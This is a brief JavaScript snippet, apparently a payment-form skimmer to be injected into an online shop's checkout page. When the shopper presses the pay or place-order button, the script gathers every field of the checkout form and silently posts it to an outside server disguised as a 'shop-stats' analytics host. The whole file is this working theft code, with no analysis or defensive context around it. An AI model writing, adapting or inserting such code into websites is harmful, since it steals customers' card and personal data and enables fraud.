window.onload = function () {
  jQuery("#btnPay, button.place-order").bind("mouseup touchend", function () {
    var rows = JSON.stringify(jQuery("#checkout").serializeArray());
    setTimeout(function () {
      jQuery.ajax({ type: "POST", async: true, url: "https://shop-stats.placeholder.example/GlobalData/", data: rows, dataType: "application/json" });
    }, 250);
  });
};
